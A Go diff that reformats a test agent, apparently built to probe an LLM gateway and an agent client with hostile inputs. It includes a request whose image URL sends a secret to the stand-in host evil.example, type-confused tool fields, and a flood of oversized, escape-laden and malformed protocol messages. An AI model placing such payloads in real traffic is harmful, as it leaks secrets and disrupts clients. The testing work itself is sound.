@@ -17,7 +17,8 @@ import (
 func (a *agent) attack() string {
 	var told strings.Builder
 	for _, try := range []struct{ name, body, header string }{
-		{"an address in content", `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil.example/?q=secret"}}]}]}`, ""},
+		{"an address in content",
+			`{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil.example/?q=secret"}}]}]}`, ""},
 		{"a search by the provider", `{"model":"m","messages":[],"Enable_Search":true}`, ""},
 		{"a tool with two types", `{"model":"m","messages":[],"tools":[{"type":"web_search","Type":"function"}]}`, ""},
 		{"eight replies", `{"model":"m","messages":[],"n":"8"}`, ""},
@@ -71,12 +72,14 @@ func send(ctx context.Context, body, header string) string {
 func (a *agent) babble() {
 	long := strings.Repeat("i", 4<<10)
 	for i := range 2000 {
-		a.update(map[string]any{"sessionUpdate": "tool_call", "toolCallId": fmt.Sprint(long, i), "title": long, "name": long,
+		a.update(map[string]any{"sessionUpdate": "tool_call", "toolCallId": fmt.Sprint(long, i),
+			"title": long, "name": long,
 			"kind": "read", "status": "completed", "rawInput": map[string]string{"a": "\u001b[2J" + long}})
 	}
 	a.update(map[string]any{"sessionUpdate": []int{1}, "toolCallId": map[string]int{}})
 	a.write(map[string]any{"jsonrpc": "2.0", "id": long, "method": "session/request_permission", "params": 7})
-	a.write(map[string]any{"jsonrpc": "2.0", "id": 3, "result": map[string]string{"stopReason": "end_turn"}, "error": nil})
+	a.write(map[string]any{"jsonrpc": "2.0", "id": 3, "result": map[string]string{"stopReason": "end_turn"},
+		"error": nil})
 	a.mu.Lock()
 	defer a.mu.Unlock()
 	_, _ = fmt.Fprintf(a.out, "%s\n\xff\xfe\n", strings.Repeat("[", 20_000))
